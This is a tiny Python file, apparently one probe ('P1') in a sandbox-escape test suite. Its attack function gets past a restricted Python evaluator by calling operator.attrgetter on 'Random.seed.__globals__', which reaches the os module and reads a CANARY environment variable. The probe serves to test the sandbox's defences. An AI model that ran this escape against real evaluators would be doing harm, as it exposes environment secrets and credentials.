"""P1: operator.attrgetter with a dotted path."""


def attack(door):
    door.run("import operator, random")
    door.value("operator.attrgetter('Random.seed.__globals__')(random)['_os'].environ['CANARY']")
